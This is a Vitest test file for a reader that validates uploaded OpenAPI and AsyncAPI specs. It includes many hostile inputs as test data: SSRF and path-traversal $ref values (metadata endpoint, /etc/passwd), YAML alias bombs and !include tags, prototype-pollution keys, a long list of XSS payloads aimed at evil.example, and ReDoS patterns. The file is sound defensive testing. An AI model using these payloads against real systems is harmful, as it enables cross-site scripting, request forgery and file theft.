import { readFile } from 'node:fs/promises'
import { describe, expect, it } from 'vitest'
import { sampleSpecs } from '../testing/sample-specs.ts'
import { readSpec } from './read-spec.ts'
import { specLimits } from './spec-limits.ts'

const rest = { kind: 'rest', basePath: '/parts/v1' } as const
const events = { kind: 'async', basePath: '/orders' } as const
const openApi = sampleSpecs['OpenAPI 3.1.0']
const purposeOf = (name: string) => (name.startsWith('Open') ? rest : events)

const read = (text: string | Uint8Array, purpose: Parameters<typeof readSpec>[1] = rest) =>
  readSpec(typeof text === 'string' ? Buffer.from(text) : text, purpose)

/** The findings, as `rule at pointer line:column message`. */
async function findingsOf(text: string | Uint8Array, purpose?: Parameters<typeof readSpec>[1]): Promise<string[]> {
  const { findings } = await read(text, purpose)
  return findings.map(
    ({ severity, rule, pointer, line, column, message }) =>
      `${severity} ${rule} ${pointer} ${line}:${column} ${message}`,
  )
}

/** A spec whose `info` has one more member, in line 3 from column 3. */
const withInfo = (member: string) => `openapi: 3.1.0\ninfo:\n  ${member}\n  title: T\n  version: '1'\npaths: {}\n`
const withPattern = (pattern: string) =>
  `openapi: 3.1.0\ninfo: { title: T, version: '1' }\npaths: {}\ncomponents: { schemas: { S: { type: string, pattern: ${JSON.stringify(pattern)} } } }\n`

describe('specs that are kept', () => {
  it.each(Object.entries(sampleSpecs))('%s, without a finding', async (name, text) => {
    const format = name.startsWith('Open') ? 'openapi' : 'asyncapi'
    const { spec, findings, leftOut } = await read(text, purposeOf(name))
    expect({ findings, leftOut }).toEqual({ findings: [], leftOut: 0 })
    expect(spec).toMatchObject({ format, formatVersion: name.split(' ')[1], syntax: 'yaml', text, version: '1.0' })
  })

  it("the demo's own, without a finding", async () => {
    const file = new URL('../../../../../examples/dms-service/appointments.openapi.yaml', import.meta.url)
    const { spec, findings } = await read(await readFile(file), { kind: 'rest', basePath: '/appointments/v1' })
    expect({ findings, name: spec?.suggested.name }).toEqual({ findings: [], name: 'Appointments' })
    // As demo/add-registry.ts keeps it.
    expect(spec).toMatchObject({ format: 'openapi', formatVersion: '3.1.0', syntax: 'yaml', version: 'v1' })
  })

  it('says what a form would be filled in with (protocol.md 5.1)', async () => {
    const { spec } = await read(openApi)
    expect(spec?.suggested).toEqual({
      name: 'Parts',
      description: 'Parts of cars.',
      version: '1.0',
      tags: ['Parts'],
      basePath: '/parts/v1',
    })
  })

  it('JSON, with tabs, escapes and surrogate pairs', async () => {
    const text =
      '{\n\t"openapi": "3.0.3",\r\n\t"info": { "title": "\\u0050arts \\ud83d\\ude00", "version": "1" }, "paths": {}\n}'
    expect((await read(text, { ...rest, declared: 'json' })).spec).toMatchObject({
      syntax: 'json',
      text,
      title: 'Parts 😀',
    })
    expect((await read(text)).spec?.syntax).toBe('json')
  })

  it('YAML that begins with a brace, unless it says that it is JSON', async () => {
    const text = `{ openapi: 3.0.3, info: { title: T, version: '1' }, paths: {}, }`
    expect((await read(text)).spec?.syntax).toBe('yaml')
    expect(await findingsOf(text, { ...rest, declared: 'json' })).toEqual([
      'error syntax  1:3 This is not JSON from here on.',
    ])
  })

  it('with a byte order mark, which is left out', async () => {
    expect((await read(`\ufeff${openApi}`)).spec?.text).toBe(openApi)
  })

  it('with schemas that are within themselves', async () => {
    const text = openApi.replace(
      'within: {',
      'others: { type: array, items: { $ref: "#/components/schemas/Part/properties/within" } }\n        within: {',
    )
    expect(await findingsOf(text)).toEqual([])
  })

  it('whose descriptions have harmless HTML, and whose examples have any that runs nothing', async () => {
    const text = openApi
      .replace(
        'Parts of cars.',
        '"<b>Parts</b> <br> of <id> List<Object> <a href=\'https://example.com/a?b=c\'>cars</a>. JavaScript: see data: below."',
      )
      .replace('<p>A paragraph.</p>', '"<form action=/x><link href=a><style>b</style></form>"')
    expect(await findingsOf(text)).toEqual([])
  })

  it('with a warning where the base path is another than the registered one', async () => {
    expect(await findingsOf(openApi, { ...rest, basePath: '/parts/v2' })).toEqual([
      'warning base-path /servers/0/url 4:10 This is not the base path under which the API is registered.',
    ])
    expect(await findingsOf(sampleSpecs['OpenAPI 2.0'], { ...rest, basePath: '/parts/v2' })).toEqual([
      'warning base-path /basePath 4:11 This is not the base path under which the API is registered.',
    ])
  })
})

describe('findings', () => {
  it('have the line, the column and the JSON pointer of what they are about', async () => {
    const text = openApi.replace('operationId: getPart', 'operationID: getPart')
    expect(await findingsOf(text)).toEqual([
      'warning operation-operationId /paths/~1parts~1{id}/get/operationId 12:5 Operation object should contain `operationId` field.',
      'error struct /paths/~1parts~1{id}/get/operationID 13:7 Property `operationID` is not expected here.',
    ])
  })

  it('are counted where they are too many to list', async () => {
    const paths = Array.from({ length: 300 }, (_, at) => `  /p${at}: { get: { nonsense: 1 } }`).join('\n')
    const { findings, leftOut, spec } = await read(
      `openapi: 3.1.0\ninfo: { title: T, version: '1' }\npaths:\n${paths}\n`,
    )
    expect(spec).toBeUndefined()
    expect(findings).toHaveLength(specLimits.findingsMax)
    expect(findings.every(({ severity }) => severity === 'error')).toBe(true)
    expect(leftOut).toBeGreaterThan(300)
  })

  it.each([
    [
      'neither OpenAPI nor AsyncAPI',
      'title: T',
      'error format  1:1 This is neither OpenAPI nor AsyncAPI: one of the members openapi, swagger and asyncapi has to name the version.',
    ],
    [
      'both',
      'openapi: 3.1.0\nasyncapi: 3.0.0',
      'error format  1:1 Both openapi and asyncapi are there. A spec is of one format.',
    ],
    [
      'a version that is a number',
      'openapi: 3.1',
      'error format /openapi 1:10 The version has to be text. Put it into quotes.',
    ],
    [
      'a version of the future',
      'openapi: 4.0.0',
      'error format /openapi 1:10 This version is not known. Known are 3.0, 3.1 and 3.2.',
    ],
    [
      'a list',
      '- a',
      'error format  1:1 This is neither OpenAPI nor AsyncAPI: one of the members openapi, swagger and asyncapi has to name the version.',
    ],
    ['nothing', ' \n ', 'error syntax  1:1 The spec is empty.'],
    [
      'only a comment',
      '# nothing',
      'error format  1:1 This is neither OpenAPI nor AsyncAPI: one of the members openapi, swagger and asyncapi has to name the version.',
    ],
    ['broken YAML', 'openapi: "3.1.0', 'error syntax  1:16 Missing closing "quote.'],
  ])('%s', async (_, text, finding) => {
    expect(await findingsOf(text)).toEqual([finding])
  })

  it('name the beginning of what one bracket too many makes of the rest', async () => {
    const found = await findingsOf(`openapi: 3.1.0\ninfo: {title: Tides}}\n${'paths: {/a: {get: {}}}\n'.repeat(9)}`)
    expect(found[0]).toMatch(/^error syntax {2}2:21 /)
    expect(found).toHaveLength(3)
  })

  it('name a format that is for another kind of API', async () => {
    expect(await findingsOf(openApi, events)).toContain('error format  1:1 An async API is described by AsyncAPI.')
    expect(await findingsOf(sampleSpecs['AsyncAPI 3.0.0'], rest)).toContain(
      'error format  1:1 A REST API is described by OpenAPI.',
    )
  })

  it('of an AsyncAPI description follow what the exchange asks of it (protocol.md 6.1)', async () => {
    const version2 = `asyncapi: 2.6.0
info: { title: T, version: '1' }
servers: { production: { url: a.example.com, protocol: kafka } }
channels:
  a: { publish: { message: { payload: {} } } }
  b: { subscribe: { message: { contentType: application/xml, payload: {} } } }
`
    const version3 = `asyncapi: 3.0.0
info: { title: T, version: '1' }
channels: { a: { address: a, messages: { m: { contentType: text/plain } } } }
operations: { o: { action: receive, channel: { $ref: '#/channels/a' } } }
`
    const rulesOf = async (text: string) =>
      (await read(text, events)).findings
        .filter(({ rule }) => rule.startsWith('event-'))
        .map(({ severity, rule, pointer }) => `${severity} ${rule} ${pointer}`)
    expect(await rulesOf(version2)).toEqual([
      'warning event-security ',
      'warning event-server /servers',
      'warning event-server /servers/production/protocol',
      'warning event-operation /channels/a',
      'warning event-operation /channels/a/publish',
      'warning event-binding /channels/b/subscribe',
      'warning event-content /channels/b/subscribe',
    ])
    expect(await rulesOf(version3)).toEqual([
      'warning event-server ',
      'warning event-security ',
      'warning event-content /channels/a/messages/m',
      'warning event-binding /operations/o',
      'warning event-operation /operations/o/action',
    ])
    expect(await rulesOf(`asyncapi: 3.0.0\ninfo: { title: T, version: '1' }\n`)).toContain('error event-channel ')
  })
})

describe('G-I traps in references', () => {
  const EXTERNAL = 'References to other files or URLs are not followed. Bundle the spec into one document.'

  it.each([
    'http://169.254.169.254/latest/meta-data/',
    'https://example.com/parts.yaml#/Part',
    '//example.com/parts.yaml',
    'file:///etc/passwd',
    '/etc/hostname',
    './parts.yaml',
    '../../../../etc/passwd#/a',
    'parts.json',
    'C:\\\\Windows\\\\win.ini',
    '%2e%2e/secret',
    'HTTP://127.0.0.1:8409/',
    '?x#/components',
    '',
  ])('$ref: %s', async (reference) => {
    const openapi = openApi.replace("'#/components/schemas/Part'", JSON.stringify(reference))
    expect((await findingsOf(openapi)).filter((line) => line.startsWith('error'))).toEqual([
      expect.stringMatching(/external-reference \/.*\/\$ref \d+:\d+ /),
    ])
    const asyncapi = sampleSpecs['AsyncAPI 2.6.0'].replace(
      'payload: {',
      `payload: { $ref: ${JSON.stringify(reference)},`,
    )
    expect(await findingsOf(asyncapi, events)).toEqual([
      expect.stringMatching(
        new RegExp(`^error external-reference /channels/orders/subscribe/message/payload/\\$ref 18:\\d+ ${EXTERNAL}`),
      ),
    ])
  })

  it.each([
    ['in an example, which other tools follow too', withInfo('x-example: { example: { $ref: /etc/passwd } }')],
    ['in an extension', withInfo('x-code: [ { $ref: "http://127.0.0.1/" } ]')],
    ['as dynamic reference', withInfo('x-a: { $dynamicRef: "http://127.0.0.1/#a" }')],
    ['as value of an example', withInfo('x-a: { externalValue: "http://127.0.0.1/" }')],
    ['as operation of a link', withInfo('x-a: { operationRef: "https://example.com/openapi.yaml#/paths/~1a/get" }')],
    ['in a discriminator', withInfo('x-a: { discriminator: { propertyName: a, mapping: { a: other.yaml } } }')],
  ])('%s', async (_, text) => {
    expect((await findingsOf(text)).map((line) => line.split(' ')[1])).toEqual(['external-reference'])
  })

  it('mappings of a discriminator name schemas, or refer to them', async () => {
    const text = openApi.replace(
      '      properties:\n',
      "      discriminator: { propertyName: id, mapping: { a: Part, b: '#/components/schemas/Part' } }\n      properties:\n",
    )
    expect(await findingsOf(text)).toEqual([])
  })

  it.each([
    ['to nothing', "'#/components/schemas/Nothing'", 'unresolved-reference'],
    ['to what every object has', "'#/constructor/prototype'", 'unresolved-reference'],
    ['to __proto__', "'#/__proto__/polluted'", 'unresolved-reference'],
    ['with a broken percent-code', "'#/%zz'", 'unresolved-reference'],
    ['to an anchor that is nowhere', "'#nowhere'", 'unresolved-reference'],
    ['to itself', "'#/components/schemas/Part/properties/within'", 'reference-loop'],
  ])('leads %s', async (_, reference, rule) => {
    const text = openApi.replace("within: { $ref: '#/components/schemas/Part' }", `within: { $ref: ${reference} }`)
    expect((await findingsOf(text)).map((line) => line.split(' ').slice(0, 3).join(' '))).toEqual([
      `error ${rule} /components/schemas/Part/properties/within/$ref`,
    ])
  })

  it('leads in a circle of three', async () => {
    const text = `openapi: 3.1.0\ninfo: { title: T, version: '1' }\npaths: {}\ncomponents:\n  schemas:\n    A: { $ref: '#/components/schemas/B' }\n    B: { $ref: '#/components/schemas/C' }\n    C: { $ref: '#/components/schemas/A' }\n`
    expect((await findingsOf(text)).map((line) => line.split(' ')[1])).toEqual([
      'reference-loop',
      'reference-loop',
      'reference-loop',
    ])
  })
})

describe('traps in YAML and JSON', () => {
  const bomb = `a: &a [x, x]\n${Array.from({ length: 40 }, (_, at) => `b${at}: &b${at} [${`*${at === 0 ? 'a' : `b${at - 1}`}, `.repeat(9)}x]`).join('\n')}\n`

  it.each([
    ['a bomb of aliases', `openapi: 3.1.0\n${bomb}`, /^error yaml-feature \/a 2:4 YAML anchors \(&\) are not read/],
    ['an anchor', withInfo('x-a: &a 1'), /^error yaml-feature \/info\/x-a 3:8 YAML anchors/],
    ['an alias', withInfo('x-a: *a'), /^error yaml-feature \/info\/x-a 3:8 YAML aliases \(\*\)/],
    ['a tag', withInfo('x-a: !!js/function "function(){}"'), /^error yaml-feature \/info\/x-a 3:8 YAML tags \(!\)/],
    ['a tag of one’s own', withInfo('x-a: !include /etc/passwd'), /^error yaml-feature .* YAML tags/],
    ['a tag on a block', 'openapi: !x |\n  3.1.0\n', /^error yaml-feature \/openapi 1:10 YAML tags/],
    ['a tag on the whole', '!x\nopenapi: 3.1.0\n', /^error yaml-feature {2}1:1 YAML tags/],
    ['a merge key', withInfo('x-a: { <<: { a: 1 } }'), /^error yaml-feature \/info\/x-a 3:10 YAML merge keys/],
    ['another version of YAML', `%YAML 1.1\n---\n${openApi}`, /^error yaml-feature {2}1:1 YAML directives/],
    ['a tag handle', `%TAG ! tag:example.com,2000:\n---\n${openApi}`, /^error yaml-feature {2}1:1 YAML directives/],
    ['a second document', `${openApi}---\na: 1\n`, /^error yaml-feature {2}\d+:1 There is a second YAML document/],
    [
      'a name that is a list',
      withInfo('? [a, b] : 1'),
      /^error yaml-feature \/info 3:5 The name of a member has to be text/,
    ],
    ['no name', withInfo('"": 1'), /^error name \/info 3:3 The name of a member is missing/],
    ['a name twice', withInfo('x-a: 1\n  x-a: 2'), /^error duplicate-key \/info 4:3 This name is in here twice/],
    [
      'a name twice, as number and as text',
      'openapi: 3.1.0\na:\n  200: 1\n  "200": 2\n',
      /^error duplicate-key \/a 4:3 This name/,
    ],
    ['a name twice in JSON', '{"openapi":"3.1.0","a":1,\n"a":2}', /^error duplicate-key {2}2:1 This name/],
    ['__proto__', withInfo('__proto__: { polluted: true }'), /^error name \/info 3:3 No member may be named __proto__/],
    [
      '__proto__ in JSON',
      '{"openapi":"3.1.0","__proto__":{"polluted":1}}',
      /^error name {2}1:20 No member may be named __proto__/,
    ],
    [
      'a name of 2,000 characters',
      withInfo(`? ${'x'.repeat(2_000)}\n  : 1`),
      /^error limit \/info 3:5 A name has more than 1000/,
    ],
    ['a number beyond all numbers', withInfo('x-a: 1e999'), /^error number \/info\/x-a 3:8 This number is too large/],
    ['infinity', withInfo('x-a: -.inf'), /^error number \/info\/x-a/],
    ['no number', withInfo('x-a: .nan'), /^error number \/info\/x-a/],
    ['a number of 400 digits', withInfo(`x-a: ${'9'.repeat(400)}`), /^error number \/info\/x-a/],
    [
      'a number that is not exact',
      withInfo('x-a: 12345678901234567890'),
      /^warning number \/info\/x-a 3:8 This number is too large to be read exactly/,
    ],
  ])('%s', async (_, text, finding) => {
    expect((await findingsOf(text))[0]).toMatch(finding)
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined()
  })

  it.each([
    ['arrays, in YAML', `openapi: 3.1.0\na: ${'['.repeat(10_000)}${']'.repeat(10_000)}`],
    ['arrays, in JSON', `{"openapi":"3.1.0","a":${'['.repeat(10_000)}${']'.repeat(10_000)}}`],
    ['objects, in JSON', `{"openapi":"3.1.0","a":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_001)}`],
    ['lists in one line', `openapi: 3.1.0\na:\n  ${'- '.repeat(2_000)}a`],
    ['names in one line', `${'? '.repeat(5_000)}a`],
    ['lines', Array.from({ length: 1_000 }, (_, at) => `${' '.repeat(at)}a:`).join('\n')],
  ])('10,000 levels of %s', async (_, text) => {
    expect(await findingsOf(text)).toEqual([
      expect.stringMatching(/^error limit \/.* Objects and arrays are more than 100 levels deep/),
    ])
  })

  it.each([
    [
      '100,000 paths',
      `openapi: 3.1.0\npaths:\n${Array.from({ length: 100_000 }, (_, at) => ` /p${at}: {}`).join('\n')}`,
      /^error limit \/paths 3:2 There are more than 10000 members/,
    ],
    [
      'too many values',
      `openapi: 3.1.0\na: [${`[${'1,'.repeat(9_999)}1],`.repeat(40)}1]`,
      /^error limit \/a\/\d+\/\d+ 2:\d+ There are more than 300000 values/,
    ],
    ['6 MB', `openapi: 3.1.0\na: "${'x'.repeat(6 * 1024 * 1024)}"`, /^error limit {2}1:1 A spec may have 5 MB/],
  ])('%s', async (_, text, finding) => {
    expect(await findingsOf(text)).toEqual([expect.stringMatching(finding)])
  })
})

describe('traps in characters', () => {
  it.each([
    ['UTF-16', Buffer.from(`\ufeff${openApi}`, 'utf16le'), /^error encoding .*UTF-16/],
    ['UTF-16 the other way round', Buffer.from(`\ufeff${openApi}`, 'utf16le').swap16(), /^error encoding .*UTF-16/],
    ['UTF-16 without a mark', Buffer.from(openApi, 'utf16le'), /^error encoding .*UTF-16/],
    [
      'Latin-1',
      Buffer.concat([Buffer.from('openapi: 3.1.0\na: '), Buffer.from([0xe4])]),
      /^error encoding .*line 2 has bytes/,
    ],
    [
      'half of a surrogate pair as bytes',
      Buffer.concat([Buffer.from('a: '), Buffer.from([0xed, 0xa0, 0x80])]),
      /^error encoding .*line 1/,
    ],
    ['an overlong slash', Buffer.concat([Buffer.from('a: '), Buffer.from([0xc0, 0xaf])]), /^error encoding/],
    ['NUL', Buffer.from('openapi: 3.1.0\na: b\0c'), /^error characters {2}2:5 The text has control characters/],
    ['escape sequences of terminals', Buffer.from(`openapi: 3.1.0\na: "\u001b[2J"`), /^error characters {2}2:5/],
    [
      'NUL, escaped',
      Buffer.from(withInfo('description: "a\\0b"')),
      /^error characters \/info\/description 3:16 This text has control/,
    ],
    ['NUL in a name', Buffer.from(withInfo('"x-\\0": 1')), /^error characters \/info\/x-. 3:3 This text has control/s],
    [
      'half of a surrogate pair',
      Buffer.from('{"openapi":"3.1.0","info":{"title":"\\ud800","version":"1"},"paths":{}}'),
      /^error characters \/info\/title 1:36 This text has half/,
    ],
    [
      'text that turns its direction',
      Buffer.from(withInfo('description: "pay \u202e001 dollars"')),
      /^error characters \/info\/description 3:16 This text has characters that turn/,
    ],
  ])('%s', async (_, bytes, finding) => {
    expect((await findingsOf(bytes))[0]).toMatch(finding)
  })
})

describe('traps in texts that viewers show', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example>',
    '</script >',
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror=alert(1)',
    '<b/onclick=alert(1)>',
    '<x y=">" onmouseover=\'alert(1)\'>',
    '<svg/onload=alert(1)>',
    '<svg><animate onbegin=alert(1)></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<math><mi xlink:href="javascript:alert(1)">',
    '<object data="https://evil.example">',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content=0>',
    '<link rel=stylesheet href=//evil.example>',
    '<style>@import "//evil.example"</style>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<a href="data:text/html,<b>">x</a>',
    '<p style="background:url(//evil.example)">',
    '[x](javascript:alert(1))',
    '[x]( <JaVaScRiPt:alert(1)>)',
    '[x](java&#10;script:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](javascript\\:alert(1))',
    '![x](data:image/svg+xml;base64,AAAA)',
    '[x]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '&amp;lt;script&amp;gt;',
    '&#x3c;script',
    '`<script>`',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ])('%s', async (text) => {
    for (const member of ['description', 'title', 'summary']) {
      const findings = await findingsOf(
        withInfo('x-a: 1').replace('x-a: 1', `x-tag: { ${member}: ${JSON.stringify(text).replace(/\$/g, '$$$$')} }`),
      )
      expect(findings).toEqual([
        expect.stringMatching(new RegExp(`^error script /info/x-tag/${member} 3:\\d+ This text has `)),
      ])
    }
  })

  it.each([
    ['a URL', withInfo('contact: { url: "javascript:alert(1)" }'), '/info/contact/url'],
    ['a URL with spaces in it', withInfo('termsOfService: " j a v a script:alert(1)"'), '/info/termsOfService'],
    ['a URL in disguise', withInfo('termsOfService: "&#106;avascript:alert(1)"'), '/info/termsOfService'],
    ['a URL of a page', withInfo('x-logo: { url: "data:text/html,<b>" }'), '/info/x-logo/url'],
    ['a file', `${withInfo('x-a: 1')}externalDocs: { url: 'file:///etc/passwd' }\n`, '/externalDocs/url'],
    [
      'a path',
      "openapi: 3.1.0\ninfo: { title: T, version: '1' }\npaths: { '/<img src=x onerror=alert(1)>': {} }\n",
      '/paths/~1<img src=x onerror=alert(1)>',
    ],
    ['an example that is a page', withInfo('x-a: { example: "<script>alert(1)</script>" }'), '/info/x-a/example'],
    [
      'a description of what is called an example',
      withInfo('x-a: { example: { description: "<svg>" } }'),
      '/info/x-a/example/description',
    ],
    [
      'a token URL',
      openApi.replace('https://example.com/token', 'javascript:alert(1)'),
      '/components/securitySchemes/app/flows/clientCredentials/tokenUrl',
    ],
  ])('script in %s', async (_, text, pointer) => {
    expect((await read(text)).findings.filter(({ severity }) => severity === 'error')).toMatchObject([
      { rule: 'script', pointer },
    ])
  })
})

describe('traps in regular expressions', () => {
  it.each(['^(a+)+$', '^(a|aa)*$', '(?>a)', 'a'.repeat(5_000)])('%s', async (pattern) => {
    expect(await findingsOf(withPattern(pattern))).toEqual([
      expect.stringMatching(/^error pattern \/components\/schemas\/S\/pattern 4:\d+ This /),
    ])
  })

  it('as names of properties', async () => {
    const text = withPattern('a').replace('pattern: "a"', 'patternProperties: { "^(a+)+$": {} }')
    expect((await read(text)).findings).toMatchObject([
      { rule: 'pattern', pointer: '/components/schemas/S/patternProperties/^(a+)+$' },
    ])
  })

  it('what is looked around is kept with a warning', async () => {
    const { spec, findings } = await read(withPattern('^(?!a)b'))
    expect(spec).toBeDefined()
    expect(findings).toContainEqual(expect.objectContaining({ severity: 'warning', rule: 'pattern' }))
  })

  it('what is an example is no regular expression', async () => {
    expect(await findingsOf(withInfo('x-a: { example: { pattern: "(" } }'))).toEqual([])
  })
})
